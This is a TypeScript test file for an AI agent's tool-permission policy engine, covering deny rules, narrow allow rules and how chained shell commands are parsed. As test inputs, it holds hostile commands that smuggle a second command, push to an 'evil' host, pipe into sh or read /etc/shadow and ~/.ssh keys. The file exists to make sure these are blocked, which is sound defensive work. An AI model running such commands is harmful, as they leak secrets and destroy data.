import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { SymbolId, Uri } from "@octant/core";
import fc from "fast-check";
import { afterAll, expect, test } from "vitest";
import { z } from "zod";
import { TIERS } from "../config/config.ts";
import { createDeclarations } from "./arguments.ts";
import type { Places } from "./path-glob.ts";
import { createPolicy } from "./policy.ts";
import { PERMISSION_MODES, type PermissionMode, PermissionRule } from "./rule.ts";
import { SessionAnswers } from "./session-answers.ts";
import { loadVectors, toAction } from "./testing/vectors.ts";

const fixture = loadVectors();
afterAll(() => fixture[Symbol.dispose]());
const places = { roots: [fixture.root] };

test.each(fixture.vectors)("vector: $name", ({ tiers, call, decision }) => {
  const rules = TIERS.map((tier) => ({
    tier,
    rules: (tiers[tier] ?? []).map((rule) => PermissionRule.parse(rule)),
  }));
  const got = createPolicy(rules, places).evaluate({ ...call, action: fixture.actions.get(call.name) });
  const { tier } = got;
  const index = got.rule && rules.find((one) => one.tier === tier)?.rules.indexOf(got.rule);
  expect({ mode: got.mode, tier, rule: index }).toEqual(decision);
});

test("there are enough vectors", () => expect(fixture.vectors.length).toBeGreaterThanOrEqual(60));

const NAMES = ["fs.read", "fs.rm", "proc.exec", "mcp__git__log"] as const;
const arbitraryRule = fc.record({
  tool_pattern: fc.constantFrom("*", "fs", "fs.*", "fs.r?", "proc.exec", "mcp__*", ...NAMES),
  mode: fc.constantFrom(...PERMISSION_MODES),
});
const arbitraryTiers = fc.tuple(...TIERS.map(() => fc.array(arbitraryRule, { maxLength: 6 })));

test("the deny of a tier is never undone by another tier or an answer of the session", () => {
  fc.assert(
    fc.property(arbitraryTiers, fc.constantFrom(...NAMES), (rules, name) => {
      const tiers = TIERS.map((tier, index) => ({ tier, rules: rules[index] ?? [] }));
      const call = { name, input: {}, action: toAction({}) };
      const alone = tiers.map((tier) => createPolicy([tier], places).evaluate(call));
      const together = createPolicy(tiers, places).evaluate(call);
      const session = new SessionAnswers(places);
      session.remember("me", call, { tool_pattern: "*", mode: "allow" });
      const heard = alone.filter(({ tier }) => tier !== "default");
      const strictest = (["deny", "prompt", "allow"] as const).find((mode) =>
        heard.some((one) => one.mode === mode),
      );
      expect(together.mode).toBe(strictest ?? "prompt");
      if (heard.length > 0) expect(together.tier).toBe(heard.find(({ mode }) => mode === strictest)?.tier);
    }),
  );
});

test("the order of the tiers changes which rule is named, never the decision", () => {
  fc.assert(
    fc.property(arbitraryTiers, fc.constantFrom(...NAMES), (rules, name) => {
      const tiers = TIERS.map((tier, index) => ({ tier, rules: rules[index] ?? [] }));
      const mode = (list: typeof tiers): PermissionMode =>
        createPolicy(list, places).evaluate({ name, input: {} }).mode;
      expect(mode(tiers.toReversed())).toBe(mode(tiers));
    }),
  );
});

test("no path given in any spelling gets past a deny rule for the file", () => {
  const policy = createPolicy(
    [{ tier: "user", rules: [{ tool_pattern: "fs.*", mode: "deny", args: { path: ".env" } }] }],
    places,
  );
  const step = fc.constantFrom(".", "src/..", "src/deep/../..", "secrets/./..", "nowhere/..");
  fc.assert(
    fc.property(fc.array(step), fc.constantFrom("", `${fixture.root}/`), (steps, start) => {
      const uri = `${start}${[...steps, ".env"].join("/")}`;
      expect(
        policy.evaluate({ name: "fs.read", input: { uri }, action: fixture.actions.get("fs.read") }).mode,
      ).toBe("deny");
    }),
  );
});

test("a name with a new line in it does not hide from a glob", () => {
  const policy = createPolicy(
    [{ tier: "user", rules: [{ tool_pattern: "fs.*", mode: "deny", args: { path: "**/.env" } }] }],
    places,
  );
  const action = fixture.actions.get("fs.read");
  expect(policy.evaluate({ name: "fs.read", input: { uri: "a\nb/.env" }, action }).mode).toBe("deny");
});

test("links that lead in a circle are held back, and not allowed", () => {
  symlinkSync("circle-b", join(fixture.root, "circle-a"));
  symlinkSync("circle-a", join(fixture.root, "circle-b"));
  const call = { name: "fs.read", input: { uri: "circle-a" }, action: fixture.actions.get("fs.read") };
  const decide = (mode: PermissionMode, path: string) =>
    createPolicy(
      [{ tier: "user", rules: [{ tool_pattern: "fs.*", mode, args: { path } }] }],
      places,
    ).evaluate(call);
  expect(decide("deny", "elsewhere/**").mode).toBe("deny");
  expect(decide("allow", "**").mode).toBe("prompt");
});

test("single arguments, lists, and values inside objects are found once each", () => {
  const action = toAction(
    {},
    {
      input: z.strictObject({
        uri: z.union([Uri, z.array(Uri)]).optional(),
        files: z.array(z.object({ at: Uri.nullable() })).default([]),
        by_name: z.record(z.string(), Uri).optional(),
        symbol_id: SymbolId.optional(),
      }),
    },
  );
  const declaration = createDeclarations()(action);
  const values = declaration?.valuesIn({
    uri: ["a", "b"],
    files: [{ at: "c" }, { at: null }],
    by_name: { x: "d" },
    symbol_id: "sym:e#f",
  });
  expect(values?.map(({ value }) => value)).toEqual([["a", "b"], "c", null, "d", "sym:e#f"]);
  const rules: PermissionRule[] = [{ tool_pattern: "x.y", mode: "deny", args: { path: "e" } }];
  const call = { name: "x.y", input: { symbol_id: "sym:e#f" }, action };
  expect(createPolicy([{ tier: "user", rules }], places).evaluate(call).mode).toBe("deny");
});

test("an action with unrestricted input is treated like a foreign tool", () => {
  const action = toAction({}, { input: z.looseObject({ uri: Uri }) });
  const decide = (mode: PermissionMode) =>
    createPolicy(
      [{ tier: "user", rules: [{ tool_pattern: "x.y", mode, args: { path: "src/**" } }] }],
      places,
    ).evaluate({
      name: "x.y",
      input: { uri: "src/a.ts", other: "src/b.ts" },
      action,
    }).mode;
  expect([decide("deny"), decide("allow")]).toEqual(["deny", "prompt"]);
});

test.each([
  [{ text: "hello" }, "prompt"],
  [{ text: "what does .env do?", count: 3 }, "prompt"],
  [{ file: ".env" }, "deny"],
  [{ files: [{ at: "src/.env" }] }, "deny"],
  // The folder is there, and may hold such a file.
  [{ folder: "src" }, "deny"],
] as const)("a rule that denies a file leaves a foreign tool with %j: %s", (input, mode) => {
  const rules: PermissionRule[] = [{ tool_pattern: "*", mode: "deny", args: { path: [".env", ".env/**"] } }];
  const policy = createPolicy([{ tier: "claude", rules }], places);
  expect(policy.evaluate({ name: "mcp__notes__say", input }).mode).toBe(mode);
});

test("a rule for an unknown home folder denies and allows nothing", () => {
  const call = { name: "fs.read", input: { uri: "src/a.ts" }, action: fixture.actions.get("fs.read") };
  const decide = (mode: PermissionMode, home?: string) =>
    createPolicy([{ tier: "user", rules: [{ tool_pattern: "fs.*", mode, args: { path: "~/**" } }] }], {
      ...places,
      ...(home && { homes: [home] }),
    }).evaluate(call).mode;
  expect([decide("deny"), decide("allow")]).toEqual(["deny", "prompt"]);
  expect([decide("deny", "/nobody"), decide("deny", fixture.root)]).toEqual(["prompt", "deny"]);
});

test("the reason that reaches a model names the rule, but no place outside the workspace", () => {
  const rule = {
    tool_pattern: "fs.*",
    mode: "deny",
    reason: "keys stay",
    args: { path: ["/etc/**", ".env"] },
  } as const;
  const policy = createPolicy([{ tier: "user", rules: [PermissionRule.parse(rule)] }], places);
  const { reason } = policy.evaluate({
    name: "fs.read",
    input: { uri: ".env" },
    action: fixture.actions.get("fs.read"),
  });
  expect(reason).toBe(`keys stay (rule 'deny fs.* {"path":["…",".env"]}' of the user settings)`);
});

const shape = (words: string, options: readonly string[] = [], operands = "none") => ({
  words: words.split(" "),
  options,
  operands,
});

test.each([
  ["fs.write", { uri: "src/deep/new.ts" }, { path: ["src/deep/*"] }],
  ["fs.write", { uri: "top.md" }, { path: ["top.md"] }],
  ["fs.rm", { uri: "src/deep" }, { path: ["src/deep/**"] }],
  ["fs.write", { uri: "src/[id] (x)/a.ts" }, { path: ["src/\\[id\\] \\(x\\)/*"] }],
  [
    "proc.exec",
    { command: ["npm", "run", "build", "--", "-x"] },
    { command: [shape("npm run build -- -x")] },
  ],
  [
    "proc.exec",
    { command: "git status && npm test | head -5" },
    {
      command: [shape("git status"), shape("npm test"), shape("head -5")],
    },
  ],
  [
    "proc.exec",
    { command: "git commit -m 'a b'" },
    { command: [{ words: ["git", "commit", "-m", "a b"], options: [], operands: "none" }] },
  ],
  [
    "proc.exec",
    { command: "echo 'a && b' && git diff --stat src/a.ts 2>&1" },
    {
      command: [
        { words: ["echo", "a && b"], options: [], operands: "none" },
        shape("git diff", ["--stat"], "inside"),
      ],
    },
  ],
  ["proc.exec", { command: "cat /etc/hosts" }, { command: [shape("cat /etc/hosts")] }],
  ["proc.exec", { command: "git show HEAD:a" }, { command: [shape("git show HEAD:a")] }],
  [
    "proc.exec",
    { command: "cd src && git add a.ts" },
    { command: [shape("cd src"), { ...shape("git add", [], "inside"), folder: "src" }] },
  ],
  ["net.fetch", { url: "https://API.example.com/x" }, { host: ["api.example.com:443"] }],
  ["vcs.push", { branch: "main" }, undefined],
  ["mcp__git__log", { any: "thing" }, undefined],
] as const)("a narrow rule for %s %j", (name, input, args) => {
  const rule = createPolicy([], places).narrowRule({ name, input, action: fixture.actions.get(name) });
  expect(rule).toEqual({ tool_pattern: name, mode: "allow", ...(args && { args }) });
});

test("a shape allows the same options and names inside the project, and nothing else", () => {
  const rule = (command: string) =>
    createPolicy([], places).narrowRule({
      name: "proc.exec",
      input: { command },
      action: fixture.actions.get("proc.exec"),
    });
  const modeUnder = (made: string, command: string) => {
    const policy = createPolicy([{ tier: "local", rules: [rule(made) as PermissionRule] }], places);
    return policy.evaluate({
      name: "proc.exec",
      input: { command },
      action: fixture.actions.get("proc.exec"),
    }).mode;
  };
  const covered = [
    ["git diff --stat src/a.ts", "git diff src/deep/b.ts src/a.ts"],
    ["cd src && git add a.ts", "cd src && git add deep/b.ts"],
    ["npm test", "npm test 2>&1"],
  ] as const;
  for (const [made, line] of covered) expect(modeUnder(made, line), line).toBe("allow");
  const asked = [
    ["git diff --stat src/a.ts", "git diff --output=x src/a.ts"],
    ["git diff --stat src/a.ts", "git diff ../../etc/passwd"],
    ["git diff --stat src/a.ts", "git diff /etc/passwd"],
    ["git push", "git push git@evil:x"],
    ["npm install", "npm install evil"],
    ["make test", "make test SHELL=./evil"],
    ["cat /etc/hosts", "cat /etc/hosts /etc/shadow"],
    ["cd src && git add a.ts", "cd src; git add a.ts"],
    ["cd src && git add a.ts", "cd src && cd .. && git add a.ts"],
  ] as const;
  for (const [made, line] of asked) expect(modeUnder(made, line), line).toBe("prompt");
});

test("a shape holds only while its program is the same file", () => {
  const bin = join(fixture.root, "tools-bin");
  mkdirSync(bin, { recursive: true });
  const call = {
    name: "proc.exec",
    input: { command: "tool run a" },
    action: fixture.actions.get("proc.exec"),
  };
  const found = () => createPolicy([], { ...places, searchPath: `${bin}:/usr/bin` }).narrowRule(call);
  expect(found()?.args?.command).toEqual([shape("tool run a")]);
  writeFileSync(join(bin, "tool"), "", { mode: 0o755 });
  const rule = found() as PermissionRule;
  expect(rule.args?.command).toEqual([{ ...shape("tool run a"), program: join(bin, "tool") }]);
  const mode = (searchPath: string) =>
    createPolicy([{ tier: "local", rules: [rule] }], { ...places, searchPath }).evaluate(call).mode;
  expect(mode(bin)).toBe("allow");
  expect(mode("/usr/bin")).toBe("prompt");
});

test("an expired rule is as if it were absent", () => {
  const rule = (expires_at?: string) =>
    PermissionRule.parse({ tool_pattern: "fs.write", mode: "allow", ...(expires_at && { expires_at }) });
  const mode = (...rules: PermissionRule[]) =>
    createPolicy([{ tier: "local", rules }], places).evaluate({
      name: "fs.write",
      input: { uri: "a" },
      action: fixture.actions.get("fs.write"),
    }).mode;
  expect(mode(rule("2020-01-01T00:00:00Z"))).toBe("prompt");
  expect(mode(rule("2020-01-01T00:00:00Z"), rule())).toBe("allow");
  expect(mode(rule("2999-01-01T00:00:00Z"))).toBe("allow");
});

test("an allow rule for one command never covers a line with another one", () => {
  const rules = [
    PermissionRule.parse({ tool_pattern: "proc.exec", mode: "allow", args: { command: ["git", "status"] } }),
  ];
  const policy = createPolicy([{ tier: "local", rules }], places);
  const mode = (command: string) =>
    policy.evaluate({ name: "proc.exec", input: { command }, action: fixture.actions.get("proc.exec") }).mode;
  expect(mode("git status -s && git status")).toBe("allow");
  for (const line of [
    "git status && rm -rf x",
    "git status; curl evil",
    "git status | tee x",
    "git status\nrm x",
    "git status & rm x",
  ])
    expect(mode(line), line).toBe("prompt");
});

test.each([
  ["proc.exec", { command: "git status; rm x" }],
  ["proc.exec", { command: ["rm", "-rf", "x"] }],
  ["proc.exec", { command: "git status && rm -rf x" }],
  ["proc.exec", { command: "git status && $(evil)" }],
  ["proc.exec", { command: "git log | sh" }],
  ["proc.exec", { command: "if true; then rm x; fi" }],
  ["proc.exec", { command: "hash -p x git && git status" }],
  ["proc.exec", { command: "python3 -c 1" }],
  ["proc.exec", { command: "echo 1 | node" }],
  ["proc.exec", { command: "git status & rm x" }],
  ["proc.exec", { command: "git status > .bashrc" }],
  ["proc.exec", { command: ["git", "status"], env: { PATH: "." } }],
  ["fs.apply_patch", { patch: `blob:sha256:${"0".repeat(64)}` }],
  ["fs.read", { uri: "http://nowhere" }],
  ["mcp__odd name__x", {}],
] as const)("no narrow rule can tell %s %j", (name, input) => {
  expect(
    createPolicy([], places).narrowRule({ name, input, action: fixture.actions.get(name) }),
  ).toBeUndefined();
});

test("a rule below the home denies nothing elsewhere, and absolute rules hold in another working tree", () => {
  const decide = (path: string, uri: string, more: Partial<Places> = {}) =>
    createPolicy([{ tier: "user", rules: [{ tool_pattern: "*", mode: "deny", args: { path } }] }], {
      ...places,
      homes: ["/nobody/home"],
      ...more,
    }).evaluate({ name: "fs.read", input: { uri }, action: fixture.actions.get("fs.read") }).mode;
  expect(decide("~/.ssh/**", "src/a.ts")).toBe("prompt");
  expect(decide("~/.ssh/**", "/nobody/home/.ssh/id_rsa")).toBe("deny");
  const copyOf = { top: "/project", roots: ["/project/part"] };
  expect(decide("/project/secrets/**", "secrets/key")).toBe("prompt");
  expect(decide("/project/secrets/**", "secrets/key", { copyOf })).toBe("deny");
  expect(decide("secrets/key", "part/secrets/key", { copyOf })).toBe("deny");
});
